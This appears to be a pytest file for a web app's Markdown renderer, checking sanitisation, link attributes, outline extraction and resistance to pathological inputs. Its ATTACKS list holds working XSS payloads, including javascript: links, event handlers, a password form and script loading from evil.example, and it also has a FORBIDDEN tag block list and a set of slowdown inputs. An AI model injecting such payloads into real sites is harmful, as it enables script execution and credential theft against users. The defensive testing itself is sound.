"""Markdown: what an editor may do, what nobody may do, and that no text stops the site."""

from __future__ import annotations

from functools import partial

import pytest

from app.lib.markdown import MAX_BYTES, one_line, plain_text, render_article, render_words, sections_of
from tests.pace import within

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "[x](javascript:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "![x](javascript:alert(1))",
    "<javascript:alert(1)>",
    '# Title {: onclick="alert(1)" }',
    '# Title {: onmouseover=alert(1) style="position:fixed" }',
    "<svg onload=alert(1)><a xlink:href='javascript:1'>x</a></svg>",
    "<details open ontoggle=alert(1)>x</details>",
    '<iframe src="https://evil.example"></iframe>',
    '<form action="https://evil.example"><input type="password" name="p"><button>Go</button></form>',
    '<img src=x onerror="alert(1)">',
    '<a href="/x" hx-get="/desk" hx-trigger="load">x</a>',
    '<div data-hx-post="/desk" data-hx-trigger="load">x</div>',
    "Text {: hx-get=/x hx-trigger=load }",
    "Text {: data-hx-get=/x data-foo=1 }",
    '<object data="x.swf"></object><embed src="x.swf"><base href="//evil.example"><meta http-equiv=refresh content=0>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "<style>*{display:none}</style><link rel=stylesheet href=//evil.example>",
]
FORBIDDEN = [
    "<script",
    "<svg",
    "<iframe",
    "<form",
    "<object",
    "<embed",
    "<style",
    "<link",
    "<meta",
    "<base",
    "<button",
    "hx-",
    "data-",
    " on",
    " style=",
    "javascript:",
    'type="password"',
]


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("render", [lambda text: render_article(text).html, render_words], ids=["article", "words"])
def test_no_attack_leaves_the_renderer(render: object, attack: str) -> None:
    html = str(render(attack))  # type: ignore[operator]
    inside = " ".join("<" + piece.partition(">")[0] for piece in html.lower().split("<")[1:])
    for bad in FORBIDDEN:
        assert bad not in inside, (bad, html)


def test_a_stranger_cannot_name_elements_like_the_page_does() -> None:
    assert "<h3>main</h3>" in render_words("# main")


def test_a_strangers_links_give_no_credit_and_no_window() -> None:
    html = render_words("see https://a.example/x and [this](http://b.example)")
    assert html.count('rel="nofollow ugc noopener"') == 2


def test_a_strangers_html_shows_as_typed() -> None:
    assert "&lt;b&gt;bold&lt;/b&gt;" in render_words("<b>bold</b>")


def test_a_strangers_lines_stay_lines_and_headings_stay_small() -> None:
    assert render_words("one\ntwo") == "<p>one<br>\ntwo</p>\n"
    assert "<h3>big</h3>" in render_words("# big")


def test_long_words_are_cut() -> None:
    html = render_words("é" * MAX_BYTES)
    assert html.count("é") == MAX_BYTES // 2 and "…" in html


HOSTILE = {
    "open brackets": "[" * 8000,
    "open images": "![" * 4000,
    "half links": "[a](" * 2000,
    "deep list": "".join("  " * depth + "- x\n" for depth in range(300)),
    "deep quotes": ">" * 5000 + " x",
    "stars": "*a " * 6000,
    "star wall": "*" * 9000 + "a" + "*" * 9000,
    "backticks": " ".join("`" * n for n in range(1, 190)),
    "angles": "<" * 18000,
    "ampersands": "&#" * 9000,
    "references": "[x]: " * 3600,
    "tags": "<div>" * 3600,
    "cells": "| a " * 5000 + "\n" + "|---" * 5000 + "\n" + "| b " * 5000,
    "links": "http://" * 2500,
    "footnotes": "[^1]" * 4500,
    "comments": "<!--" * 4500,
    "parentheses": "[a](" + "(" * 9000,
    "addresses": "a@" * 9000,
    "mixed list": "> - " * 4000,
}


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_words_take_less_than_a_second(name: str) -> None:
    assert within(30, lambda: render_words(HOSTILE[name]))


@pytest.mark.parametrize("name", HOSTILE)
def test_a_hostile_file_neither_fails_nor_hangs(name: str) -> None:
    assert within(200, lambda: render_article(HOSTILE[name]))


def test_a_text_too_deep_is_shown_plainly_and_says_so() -> None:
    rendered = render_article(HOSTILE["deep list"])
    assert rendered.problems and "deep" in rendered.problems[0]


def test_callouts_from_three_families_look_the_same() -> None:
    for text in ('!!! warning "Mind"\n    Words', "/// warning | Mind\nWords\n///"):
        html = render_article(text).html
        assert '<div class="admonition warning">' in html and "Mind" in html
    github = render_article("> [!CAUTION]\n> Words **here**\n\nAfter").html
    assert '<div class="admonition danger">' in github and "<strong>here</strong>" in github and "<p>After</p>" in github


def test_a_callout_inside_code_stays_code() -> None:
    assert "admonition" not in render_article("```\n> [!NOTE]\n> x\n```").html


def test_tabs_tasks_code_and_footnotes_render() -> None:
    text = '=== "One"\n\n    a\n\n=== "Two"\n\n    b\n\n- [x] done\n\n```python\nx = 1\n```\n\nSee[^1]\n\n[^1]: note'
    html = render_article(text).html
    assert html.count('type="radio"') == 2 and 'type="checkbox"' in html
    assert '<span class="n">x</span>' in html and 'id="fn:1"' in html


def test_template_braces_are_only_text() -> None:
    assert "{{ config }}" in render_article("{{ config }} {% include 'x' %}").html


def test_the_outline_is_extracted() -> None:
    rendered = render_article("# Title\n\n## First *part*\n\nSee [a](other.md#x) ![Pic](p.png)\n\n### Deep\n\n## First part\n")
    assert rendered.title == "Title" and "<h1" not in rendered.html
    assert [(h.level, h.id, h.text) for h in rendered.headings] == [
        (2, "first-part", "First part"),
        (3, "deep", "Deep"),
        (2, "first-part_1", "First part"),
    ]
    assert rendered.links == ("other.md#x",)
    assert (rendered.images[0].src, rendered.images[0].alt) == ("p.png", "Pic")
    assert rendered.toc.count("<ul>") == 2 and rendered.toc.count("</ul>") == 2
    assert rendered.words == 7


def test_a_heading_never_takes_an_id_of_the_page() -> None:
    assert 'id="main-section"' in render_article("## Main").html


def test_bom_carriage_returns_and_null_bytes_are_harmless() -> None:
    assert render_article("\ufeff# A\r\n\r\nb\0c\r\n").title == "A"


def test_reading_the_source_agrees_with_rendering_it() -> None:
    text = (
        "# Title\n\nIntro [a](b.md)\n\n## First *part*\n\n```\n# no heading\n```\n\nUnder\n-----\n\n### Own {: #mine }\n\n## First part\n"
    )
    rendered = render_article(text)
    sections = sections_of(text)
    assert [(s.level, s.anchor, s.title) for s in sections[1:]] == [(h.level, h.id, h.text) for h in rendered.headings]
    assert sections[0].title == rendered.title and sections[0].line == 1
    assert [s.line for s in sections] == [1, 5, 11, 14, 16]


def test_plain_text_keeps_words_and_drops_marks() -> None:
    text = 'A **b** [c](d "t") ![e](f.png) <b class="x">g</b> {% hint %} h &amp; `i` <!-- j -->\n\n> [!NOTE]\n> k\n\n| l | m |\n|---|---|'
    assert plain_text(text) == "A b c e g h & i k l m"


@pytest.mark.parametrize(
    ("words", "line"),
    [
        ("From **The call**:\n\n> Voice first.\n\n[Read it all](/help/x#y)", "From The call: Voice first. Read it all"),
        ("2*3*4 > 5, a_b and [no link] ** so", "2*3*4 > 5, a_b and [no link] ** so"),
        ("one two three four five", "one two three four…"),
        ("", ""),
    ],
)
def test_a_line_for_a_list_has_no_marks_and_an_end(words: str, line: str) -> None:
    assert one_line(words, 19 if words.startswith("one") else 80) == line


def test_a_line_of_hostile_marks_is_quick() -> None:
    for sign in ("**a", "[a](", "> ", "[", "*"):
        words = sign * 100_000
        assert within(1, partial(one_line, words, 160)), sign
